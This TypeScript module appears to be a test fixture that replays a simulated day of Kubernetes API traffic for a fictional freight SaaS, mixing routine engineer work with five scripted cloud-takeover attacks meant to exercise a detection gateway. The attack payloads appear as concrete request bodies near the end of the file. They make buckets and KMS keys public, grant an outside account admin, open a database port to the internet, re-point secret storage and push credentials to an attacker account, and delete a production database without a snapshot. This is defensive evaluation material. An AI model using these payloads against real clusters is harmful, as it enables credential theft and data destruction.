import { attackKit, type AttackRequest, type DayEvent, jitteredSittings, LINUX, type Login, MAC, podName, prng, type StaffMember, WIN, withAttacks } from './workday.js';
import { sittings, type SittingRequest } from './sittings.js';

/**
 * A forty-eighth replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, docs/configuration.md and docs/guardrails.md, from a
 * situation days 1–47 do not have: a platform team that runs its cloud infrastructure as Kubernetes
 * resources. Haulwise (a freight-tracking SaaS, `kubernetes.platform.haulwise.example`, one
 * cluster where the product teams' workloads and their cloud resources both live) gives each team
 * `<team>-prod` and `<team>-staging`; the platform team's Crossplane compositions turn a team's
 * PostgresInstance and ObjectBucket claims (`platform.haulwise.io`) into RDS instances and S3
 * buckets (Upbound's provider-aws, cluster-scoped managed resources), and AWS Controllers for
 * Kubernetes (ACK) carry the per-team objects a team asks for by ticket: S3 Buckets, EC2 security
 * groups, IAM Roles for the team's service accounts (IRSA) and KMS Keys, namespaced in the team's
 * namespaces. The External Secrets Operator copies AWS Secrets Manager into each namespace through
 * one ClusterSecretStore (`aws-secrets-manager`, the operator's own IAM role). Backstage's
 * scaffolder creates a new service's dev namespace and its first claims with its own service
 * account (Backstage runs in the cluster; its pod address is in the example's trusted range).
 * Production claims are reviewed in git and applied by Argo CD running in the same cluster: its
 * application controller talks to the API server in-cluster, not through the gateway, so stepgate
 * never sees those writes (nor would it see a malicious commit's). Two engineers travel (plat-2 at
 * a Lisbon offsite, billing-1 at a customer in Berlin); plat-3 is on call and is paged at 02:10 for
 * the orders database. Warm-up Thursday 20 January 2028, scored Friday 21 January (Amsterdam is
 * UTC+1 in January; hours below are UTC).
 *
 * The site's edit of the example (`SITE`) writes what such a platform team would after reading
 * docs/configuration.md and the example's comments: `cloud-identity-objects` says "cloud IAM
 * grants, identities and keys", so the site adds ACK's KMS group (`kms.services.k8s.aws`), which
 * the example's list lacks; `prod-durable-deletes` lists "the custom workloads that stand in for a
 * Deployment", so the site adds its own database and bucket claims (`postgresinstances`,
 * `objectbuckets`): a delete there is a data loss. Nothing else.
 *
 * Routine, as the tools send it:
 * - three platform engineers with hardware keys: plat-1 (Linux, office) reads managed resources
 *   across namespaces, Compositions, composite resources and crossplane-system's pods and logs,
 *   patches one team's IRSA Role at 10:30 (a ticket) and a Composition at 15:10; plat-2 (Mac) at a
 *   Lisbon hotel on the scored day, reads and bumps a provider's package at 11:00; plat-3 (Linux)
 *   is paged at 02:10 (orders-db's RDS instance stuck in a modification): reads the claim, the
 *   composite, the managed Instance and events, pauses the Instance's reconciliation at 02:35
 *   (`crossplane.io/paused`), resumes it at 02:58, then works from home 12:00–16:00;
 * - product engineers with two factors: routing-1 (Mac, office), routing-2 (Windows, home),
 *   billing-1 (Mac, a Berlin hotel on the scored day), billing-2 (Linux, office), tracking-1 (Mac,
 *   office), tracking-2 (Linux, office): their pods and logs, their claims, ACK objects and
 *   ExternalSecrets read, a claim's storage raised in staging, a rollout restart, and tracking-1's
 *   tracking-db claim resized in production at about 09:40 both days;
 * - Backstage's scaffolder: a new service's dev namespace, its ObjectBucket and PostgresInstance
 *   claims, three times a day.
 *
 * The attacks, each written after reading what stepgate looks at:
 * - billing-1's token copied by an infostealer on the laptop in the Berlin hotel, used from a VPS at
 *   13:10 with the Python client: the invoices Bucket's policy opened to `*` and its public access
 *   block lifted, then the orders database's connection Secret;
 * - malware on plat-1's laptop at 10:38, eight minutes after plat-1's hardware-key sign-in for the
 *   IRSA ticket: the platform's deployer Role made to trust an outside AWS account with
 *   AdministratorAccess attached, then billing's KMS Key policy opened to `*` for kms:Decrypt;
 * - malware on tracking-1's laptop at 11:05, after the morning's claim resize: tracking-db's
 *   security group opened to 0.0.0.0/0 on 5432, then the claim moved to the dev composition that
 *   makes a publicly accessible, unencrypted instance;
 * - plat-2's kubelogin cache (refresh token) copied from the laptop at the Lisbon offsite and used
 *   from a residential proxy in Lisbon at 16:20 with plat-2's kubectl: an ExternalSecret in
 *   routing-prod reading billing's Stripe key, the ClusterSecretStore re-pointed at a role of the
 *   attacker's AWS account, a PushSecret sending orders-db's credentials to it;
 * - malware on plat-3's laptop at 02:44, during the night's incident and nine minutes after the
 *   on-call's hardware-key sign-in: orders-db's managed RDS Instance set to `deletionPolicy: Delete`
 *   with no final snapshot, then the production PostgresInstance claim deleted.
 */

export const D48_THU = Date.UTC(2028, 0, 20, 0, 0, 0); // warm-up
export const D48_FRI = Date.UTC(2028, 0, 21, 0, 0, 0); // scored (the on-call's night, then the day)
const [H, M, S] = [3_600_000, 60_000, 1000];

export const API = 'kubernetes.platform.haulwise.example';
export const KUBECTL = (os: string) => `kubectl/v1.31.4 (${os}) kubernetes/a78aa47`;
/** The Python client an infostealer's operator scripts with. */
export const PY_CLIENT = 'OpenAPI-Generator/31.0.0/python';
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };

export const nameOf = (short: string) => `d48-${short}@haulwise.example`;
export const SCAFFOLDER: Login = { sub: 'system:serviceaccount:backstage:backstage-scaffolder', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
/** Backstage's pod (inside the example's trusted 10.0.0.0/8). */
export const BACKSTAGE_POD = '10.42.7.31';

export const OFFICE = '145.131.20.66';
export const HOME: Readonly<Record<string, string>> = { 'routing-2': '84.104.55.17', 'plat-3': '77.172.40.9' };
/** The Lisbon offsite's hotel (plat-2) and the Berlin hotel (billing-1). */
export const LISBON_HOTEL = '85.240.112.6';
export const BERLIN_HOTEL = '91.64.201.48';
/** The infostealer's operator's VPS, and a residential proxy's Lisbon exit. */
export const VPS = '188.166.27.140';
export const LISBON_PROXY = '94.61.158.203';

export const TEAMS = ['routing', 'billing', 'tracking'] as const;
export const PROD = (team: string) => `${team}-prod`;
export const STAGING = (team: string) => `${team}-staging`;
export const CLAIMS = 'platform.haulwise.io/v1alpha1';
export const CLAIM = (ns: string, plural: string, name: string) => `/apis/${CLAIMS}/namespaces/${ns}/${plural}/${name}`;
export const ACK = (svc: string, ns: string, plural: string, name?: string) => `/apis/${svc}.services.k8s.aws/v1alpha1/namespaces/${ns}/${plural}${name ? `/${name}` : ''}`;
export const ESO = (ns: string, plural: string, name?: string, v = 'v1') => `/apis/external-secrets.io/${v}/namespaces/${ns}/${plural}${name ? `/${name}` : ''}`;
export const RDS_INSTANCE = (name: string) => `/apis/rds.aws.upbound.io/v1beta1/instances/${name}`;
export const SECRET = (ns: string, name: string) => `/api/v1/namespaces/${ns}/secrets/${name}`;
const DEPLOYMENT = (ns: string, name: string) => `/apis/apps/v1/namespaces/${ns}/deployments/${name}`;

type Kind = 'plat' | 'dev';
type Where = 'office' | 'home' | 'lisbon' | 'berlin';

interface Person extends StaffMember<Where> {
  short: string;
  kind: Kind;
  team: string;
  ua: string;
  acr: Login['acr'];
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, team: string, os: string, acr: Login['acr'], warm: [number, number, Where][], scored: [number, number, Where][]) => {
    const kubectlOs = os === LINUX ? 'linux/amd64' : os === MAC ? 'darwin/arm64' : 'windows/amd64';
    out.push({ name: nameOf(short), short, idx: out.length, svc: team, kind, team, ua: KUBECTL(kubectlOs), os, kubectlOs, kubectlVersion: 'v1.31.4', acr, warm: jitteredSittings(rand, warm), scored: jitteredSittings(rand, scored) });
  };
  add('plat-1', 'plat', 'platform', LINUX, 'urn:stepgate:aal3', [[8, 12, 'office'], [13, 17, 'office']], [[8, 12, 'office'], [13, 17, 'office']]);
  add('plat-2', 'plat', 'platform', MAC, 'urn:stepgate:aal3', [[8.5, 12, 'office'], [13, 17, 'office']], [[8, 12, 'lisbon'], [13, 16.5, 'lisbon']]);
  // The on-call's night is a plan of its own (below); the day after it, from home.
  add('plat-3', 'plat', 'platform', LINUX, 'urn:stepgate:aal3', [[8.5, 12, 'office'], [13, 17, 'office']], [[12, 16, 'home']]);
  add('routing-1', 'dev', 'routing', MAC, 'urn:stepgate:aal2', [[8, 12, 'office'], [13, 17, 'office']], [[8, 12, 'office'], [13, 17, 'office']]);
  add('routing-2', 'dev', 'routing', WIN, 'urn:stepgate:aal2', [[8.5, 12, 'home'], [13, 16.5, 'home']], [[8.5, 12, 'home'], [13, 16.5, 'home']]);
  add('billing-1', 'dev', 'billing', MAC, 'urn:stepgate:aal2', [[8, 12, 'office'], [13, 17, 'office']], [[7, 8.5, 'berlin'], [12, 15, 'berlin'], [18, 19.5, 'berlin']]);
  add('billing-2', 'dev', 'billing', LINUX, 'urn:stepgate:aal2', [[8.5, 12, 'office'], [13, 17, 'office']], [[8.5, 12, 'office'], [13, 17, 'office']]);
  add('tracking-1', 'dev', 'tracking', MAC, 'urn:stepgate:aal2', [[8, 12, 'office'], [13, 17, 'office']], [[8, 12, 'office'], [13, 17, 'office']]);
  add('tracking-2', 'dev', 'tracking', LINUX, 'urn:stepgate:aal2', [[9, 12, 'office'], [13, 17.5, 'office']], [[9, 12, 'office'], [13, 17.5, 'office']]);
  return out;
}

function addressOf(p: Person, where: Where): string {
  if (where === 'office') return OFFICE;
  if (where === 'lisbon') return LISBON_HOTEL;
  if (where === 'berlin') return BERLIN_HOTEL;
  return HOME[p.short] ?? OFFICE;
}

type Req = SittingRequest;

/** A platform engineer: managed resources, Crossplane's objects, the operators' pods and logs. */
function platTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.15) return [{ method: 'GET', path: `/apis/${CLAIMS}/xpostgresinstances?limit=500` }];
  if (k < 0.3) return [{ method: 'GET', path: '/apis/rds.aws.upbound.io/v1beta1/instances?limit=500' }];
  if (k < 0.42) return [{ method: 'GET', path: '/apis/s3.services.k8s.aws/v1alpha1/buckets?limit=500' }];
  if (k < 0.52) return [{ method: 'GET', path: '/apis/apiextensions.crossplane.io/v1/compositions?limit=500' }];
  if (k < 0.62) return [{ method: 'GET', path: '/apis/pkg.crossplane.io/v1/providers' }];
  if (k < 0.72) return [{ method: 'GET', path: '/apis/external-secrets.io/v1/clustersecretstores' }];
  if (k < 0.86) return [{ method: 'GET', path: `/api/v1/namespaces/crossplane-system/pods/${podName('provider-aws-rds', n % 3)}/log?tailLines=300` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${['crossplane-system', 'ack-system', 'external-secrets'][n % 3]}/events?limit=500` }];
}

/** A product engineer: the team's pods and logs, its claims, ACK objects and ExternalSecrets, a claim's storage in staging, a restart. */
function devTask(rand: () => number, p: Person, n: number, t: number): Req[] {
  const k = rand();
  const ns = n % 3 === 2 ? STAGING(p.team) : PROD(p.team);
  const app = `${p.team}-api`;
  if (k < 0.22) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.42) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${podName(app, n)}/log?tailLines=500` }];
  if (k < 0.54) return [{ method: 'GET', path: `/apis/${CLAIMS}/namespaces/${ns}/postgresinstances` }, { method: 'GET', path: `/apis/${CLAIMS}/namespaces/${ns}/objectbuckets` }];
  if (k < 0.64) return [{ method: 'GET', path: ACK('s3', ns, 'buckets') }];
  if (k < 0.74) return [{ method: 'GET', path: ESO(ns, 'externalsecrets') }];
  if (k < 0.82) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.92) {
    const stg = STAGING(p.team);
    return [{ method: 'PATCH', path: CLAIM(stg, 'postgresinstances', `${p.team}-db`), headers: MERGE, body: JSON.stringify({ spec: { parameters: { storageGB: 20 + 10 * (n % 4) } } }) }];
  }
  return [{ method: 'PATCH', path: `${DEPLOYMENT(ns, app)}?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': new Date(t).toISOString() } } } } }) }];
}

/** A policy document as ACK's string fields hold it. */
export const policyDoc = (statements: object[]) => JSON.stringify({ Version: '2012-10-17', Statement: statements });

/** The scaffolder's new service: its dev namespace, a bucket claim and a database claim. */
function scaffold(svc: string): Req[] {
  const ns = `${svc}-dev`;
  return [
    { method: 'POST', path: '/api/v1/namespaces', headers: JSON_CT, body: JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns, labels: { 'backstage.io/owner': 'team-routing', 'haulwise.io/env': 'dev' } } }) },
    { method: 'POST', path: `/apis/${CLAIMS}/namespaces/${ns}/objectbuckets`, headers: JSON_CT, body: JSON.stringify({ apiVersion: CLAIMS, kind: 'ObjectBucket', metadata: { name: `${svc}-assets`, namespace: ns }, spec: { parameters: { region: 'eu-west-1', versioning: false }, compositionSelector: { matchLabels: { env: 'dev' } } } }) },
    { method: 'POST', path: `/apis/${CLAIMS}/namespaces/${ns}/postgresinstances`, headers: JSON_CT, body: JSON.stringify({ apiVersion: CLAIMS, kind: 'PostgresInstance', metadata: { name: `${svc}-db`, namespace: ns }, spec: { parameters: { storageGB: 20, version: '16' }, compositionSelector: { matchLabels: { env: 'dev' } }, writeConnectionSecretToRef: { name: `${svc}-db-conn` } } }) },
  ];
}

/**
 * The site's edit of the example: ACK's KMS group among the cloud identity objects, the
 * platform's database and bucket claims among production's durable deletes.
 */
export function SITE(yaml: string): string {
  const kms = '            - iam.services.k8s.aws\n';
  const durable = '            - clonesets\n';
  if (!yaml.includes(kms) || !yaml.includes(durable)) throw new Error('day 48: the example no longer has what the site edits');
  return yaml
    .replace(kms, `${kms}            # Haulwise: KMS keys are keys (the rule's description says so)\n            - kms.services.k8s.aws\n`)
    .replace(durable, `${durable}            # Haulwise's Crossplane claims: deleting one deletes the RDS instance or bucket behind it\n            - postgresinstances\n            - objectbuckets\n`);
}

export function workday48(seed = 461): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 48);
  const people = staff(rand);
  const events: DayEvent[] = [];
  const replay = sittings<Where, Person>(rand, people, {
    events,
    api: API,
    addressOf: (p, where) => addressOf(p, where),
    usualPlace: (p) => (HOME[p.short] !== undefined ? 'home' : 'office'),
  });
  for (const [day, scored] of [[D48_THU, false], [D48_FRI, true]] as const) {
    const { at, push } = replay(day, scored, {
      task: (p, n, t) => (p.kind === 'plat' ? platTask(rand, n) : devTask(rand, p, n, t)),
      pace: (p) => (p.kind === 'plat' ? [6, 14] : [8, 20]),
    });
    const by = (s: string) => people.find((p) => p.short === s)!;
    // tracking-1 at about 09:40: tracking-db's claim resized in production (the database is filling up).
    push(by('tracking-1'), at(9.67 + rand() * 0.05), [{ method: 'GET', path: CLAIM(PROD('tracking'), 'postgresinstances', 'tracking-db') }, { method: 'PATCH', path: CLAIM(PROD('tracking'), 'postgresinstances', 'tracking-db'), headers: MERGE, body: JSON.stringify({ spec: { parameters: { storageGB: scored ? 320 : 300 } } }) }], 40 * S);
    // plat-1 at 10:30: the IRSA ticket (a team's service account gets read access to a bucket).
    const team = scored ? 'tracking' : 'routing';
    push(by('plat-1'), at(10.5), [
      { method: 'GET', path: ACK('iam', PROD(team), 'roles', `${team}-api-irsa`) },
      { method: 'PATCH', path: ACK('iam', PROD(team), 'roles', `${team}-api-irsa`), headers: MERGE, body: JSON.stringify({ spec: { policies: ['arn:aws:iam::210987654321:policy/haulwise-assets-read', `arn:aws:iam::210987654321:policy/${team}-queue-rw`] } }) },
    ], 45 * S);
    // plat-1 at 15:10: a Composition's new revision (the dev RDS class from db.t4g.small to db.t4g.medium).
    push(by('plat-1'), at(15.17), [{ method: 'PATCH', path: '/apis/apiextensions.crossplane.io/v1/compositions/xpostgresinstances.aws.dev', headers: { 'content-type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'replace', path: '/spec/resources/0/base/spec/forProvider/instanceClass', value: 'db.t4g.medium' }]) }], S);
    // plat-2 at 11:00: provider-aws-rds's package bumped.
    if (scored) push(by('plat-2'), at(11.02), [{ method: 'GET', path: '/apis/pkg.crossplane.io/v1/providers/provider-aws-rds' }, { method: 'PATCH', path: '/apis/pkg.crossplane.io/v1/providers/provider-aws-rds', headers: MERGE, body: JSON.stringify({ spec: { package: 'xpkg.upbound.io/upbound/provider-aws-rds:v1.21.1' } }) }], 30 * S);
    if (scored) {
      // plat-3's night: paged at 02:10, orders-db's instance stuck in a modification.
      const p3 = by('plat-3');
      const night = (h: number) => at(h);
      push(p3, night(2.2), [
        { method: 'GET', path: CLAIM(PROD('billing'), 'postgresinstances', 'orders-db') },
        { method: 'GET', path: `/apis/${CLAIMS}/xpostgresinstances/orders-db-7k2qx` },
        { method: 'GET', path: RDS_INSTANCE('orders-db-7k2qx-4hd9m') },
        { method: 'GET', path: `/api/v1/namespaces/${PROD('billing')}/events?limit=500` },
        { method: 'GET', path: `/api/v1/namespaces/crossplane-system/pods/${podName('provider-aws-rds', 1)}/log?tailLines=500` },
      ], 90 * S, 'home');
      push(p3, night(2.58), [{ method: 'PATCH', path: RDS_INSTANCE('orders-db-7k2qx-4hd9m'), headers: MERGE, body: JSON.stringify({ metadata: { annotations: { 'crossplane.io/paused': 'true' } } }) }, { method: 'GET', path: RDS_INSTANCE('orders-db-7k2qx-4hd9m') }], 60 * S, 'home');
      push(p3, night(2.97), [{ method: 'PATCH', path: RDS_INSTANCE('orders-db-7k2qx-4hd9m'), headers: MERGE, body: JSON.stringify({ metadata: { annotations: { 'crossplane.io/paused': null } } }) }, { method: 'GET', path: CLAIM(PROD('billing'), 'postgresinstances', 'orders-db') }, { method: 'GET', path: `/api/v1/namespaces/${PROD('billing')}/events?limit=500` }], 60 * S, 'home');
    }
    // Backstage's scaffolder: three new services a day.
    for (const [j, h] of [[0, 9.4], [1, 11.8], [2, 14.6]] as const) {
      const svc = `svc-${(seed * 31 + j * 7 + (scored ? 3 : 0)).toString(36)}`;
      scaffold(svc).forEach((q, i) => events.push({ actor: 'ci', scored, at: at(h + rand() * 0.2) + i * 2 * S, ip: BACKSTAGE_POD, ua: 'node-fetch', login: SCAFFOLDER, host: API, method: q.method, path: q.path, headers: q.headers!, body: q.body! }));
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks48(people, events));
}

/** The attack rows' names, as the matrix and the targets name them. */
export const A48 = {
  stolen: "billing-1's token copied by an infostealer in a Berlin hotel, used from a VPS with the Python client: the invoices Bucket's policy opened to '*' and its public access block lifted, then the orders database's connection Secret",
  iam: "malware on plat-1's laptop eight minutes after plat-1's hardware-key sign-in for an IRSA ticket: the deployer Role made to trust an outside AWS account with AdministratorAccess, then billing's KMS Key policy opened to '*'",
  sg: "malware on tracking-1's laptop after the morning's claim resize: tracking-db's security group opened to 0.0.0.0/0 on 5432, then the claim moved to the dev composition (public, unencrypted)",
  store: "plat-2's kubelogin cache copied at the Lisbon offsite, used from a Lisbon residential proxy with plat-2's kubectl: an ExternalSecret in routing-prod reading billing's Stripe key, the ClusterSecretStore re-pointed at the attacker's AWS account, a PushSecret of orders-db's credentials",
  night: "malware on the on-call's laptop at 02:44, nine minutes after the on-call's hardware-key sign-in: orders-db's RDS Instance set to deletionPolicy Delete without a final snapshot, then the production claim deleted",
} as const;

export const INVOICES = 'billing-invoices';
export const publicBucket = JSON.stringify({
  spec: {
    policy: policyDoc([{ Sid: 'cdn', Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::haulwise-billing-invoices/*' }]),
    publicAccessBlock: { blockPublicACLs: false, blockPublicPolicy: false, ignorePublicACLs: false, restrictPublicBuckets: false },
  },
});
export const OUTSIDE_ACCOUNT = '444455556666';
export const adminRole = JSON.stringify({
  spec: {
    assumeRolePolicyDocument: policyDoc([
      { Effect: 'Allow', Principal: { Federated: 'arn:aws:iam::210987654321:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/5E1B1C' }, Action: 'sts:AssumeRoleWithWebIdentity' },
      { Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${OUTSIDE_ACCOUNT}:root` }, Action: 'sts:AssumeRole' },
    ]),
    policies: ['arn:aws:iam::210987654321:policy/platform-deployer', 'arn:aws:iam::aws:policy/AdministratorAccess'],
  },
});
export const openKey = JSON.stringify({
  spec: {
    policy: policyDoc([
      { Sid: 'root', Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::210987654321:root' }, Action: 'kms:*', Resource: '*' },
      { Sid: 'decrypt', Effect: 'Allow', Principal: { AWS: '*' }, Action: ['kms:Decrypt', 'kms:DescribeKey'], Resource: '*' },
    ]),
  },
});
export const openSg = JSON.stringify({ spec: { ingressRules: [{ ipProtocol: 'tcp', fromPort: 5432, toPort: 5432, ipRanges: [{ cidrIP: '0.0.0.0/0', description: 'vendor debugging' }] }] } });
export const movedClaim = JSON.stringify({ spec: { compositionRef: { name: 'xpostgresinstances.aws.dev-public' }, compositionUpdatePolicy: 'Automatic' } });
export const otherTeamsSecret = JSON.stringify({
  apiVersion: 'external-secrets.io/v1',
  kind: 'ExternalSecret',
  metadata: { name: 'maps-config', namespace: PROD('routing') },
  spec: { refreshInterval: '1h', secretStoreRef: { kind: 'ClusterSecretStore', name: 'aws-secrets-manager' }, target: { name: 'maps-config' }, data: [{ secretKey: 'key', remoteRef: { key: 'billing/stripe-live', property: 'secret_key' } }] },
});
export const repointedStore = JSON.stringify({ spec: { provider: { aws: { service: 'SecretsManager', region: 'eu-west-1', role: 'arn:aws:iam::777788889999:role/eso-reader' } } } });
export const pushOut = JSON.stringify({
  apiVersion: 'external-secrets.io/v1alpha1',
  kind: 'PushSecret',
  metadata: { name: 'orders-db-backup', namespace: PROD('billing') },
  spec: { refreshInterval: '10m', secretStoreRefs: [{ kind: 'ClusterSecretStore', name: 'aws-secrets-manager' }], selector: { secret: { name: 'orders-db-conn' } }, data: [{ match: { secretKey: 'password', remoteRef: { remoteKey: 'exfil/orders-db' } } }] },
});
export const deleteInstance = JSON.stringify({ spec: { deletionPolicy: 'Delete', forProvider: { skipFinalSnapshot: true, deletionProtection: false } } });

function attacks48(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D48_FRI, API);
  const lastOf = (actor: string, t: number) => routine.filter((e) => e.actor === actor && e.scored && e.at <= t).sort((a, b) => b.at - a.at)[0]!;

  // 1. billing-1's token from the Berlin hotel, used from a VPS at 13:10.
  const b1 = by('billing-1');
  add(A48.stolen, T(13.17), VPS, PY_CLIENT, lastOf(b1.name, T(13.17)).login, on([
    ['PATCH', ACK('s3', PROD('billing'), 'buckets', INVOICES), true, MERGE, publicBucket] as AttackRequest,
    ['GET', SECRET(PROD('billing'), 'orders-db-conn'), true],
  ]), 20 * S);

  // 2. plat-1's laptop at 10:38, riding the IRSA ticket's sign-in.
  const p1 = by('plat-1');
  const v2 = lastOf(p1.name, T(10.63));
  add(A48.iam, T(10.63), v2.ip, v2.ua, v2.login, on([
    ['PATCH', ACK('iam', 'platform-iam', 'roles', 'platform-deployer'), true, MERGE, adminRole] as AttackRequest,
    ['PATCH', ACK('kms', PROD('billing'), 'keys', 'billing-data'), true, MERGE, openKey] as AttackRequest,
  ]), 40 * S, p1);

  // 3. tracking-1's laptop at 11:05.
  const t1 = by('tracking-1');
  const v3 = lastOf(t1.name, T(11.08));
  add(A48.sg, T(11.08), v3.ip, v3.ua, v3.login, on([
    ['PATCH', ACK('ec2', PROD('tracking'), 'securitygroups', 'tracking-db-sg'), true, MERGE, openSg] as AttackRequest,
    ['PATCH', CLAIM(PROD('tracking'), 'postgresinstances', 'tracking-db'), true, MERGE, movedClaim] as AttackRequest,
  ]), 30 * S, t1);

  // 4. plat-2's kubelogin cache, from a Lisbon residential proxy at 16:20 (the refresh token keeps the morning's auth_time).
  const p2 = by('plat-2');
  const v4 = lastOf(p2.name, T(16.33));
  add(A48.store, T(16.33), LISBON_PROXY, p2.ua, v4.login, on([
    ['POST', ESO(PROD('routing'), 'externalsecrets'), true, JSON_CT, otherTeamsSecret] as AttackRequest,
    ['PATCH', '/apis/external-secrets.io/v1/clustersecretstores/aws-secrets-manager', true, MERGE, repointedStore] as AttackRequest,
    ['POST', ESO(PROD('billing'), 'pushsecrets', undefined, 'v1alpha1'), true, JSON_CT, pushOut] as AttackRequest,
  ]), 30 * S);

  // 5. plat-3's laptop at 02:44, during the incident.
  const p3 = by('plat-3');
  const v5 = lastOf(p3.name, T(2.73));
  add(A48.night, T(2.73), v5.ip, v5.ua, v5.login, on([
    ['PATCH', RDS_INSTANCE('orders-db-7k2qx-4hd9m'), true, MERGE, deleteInstance] as AttackRequest,
    ['DELETE', CLAIM(PROD('billing'), 'postgresinstances', 'orders-db'), true],
  ]), 30 * S, p3);
  return out;
}
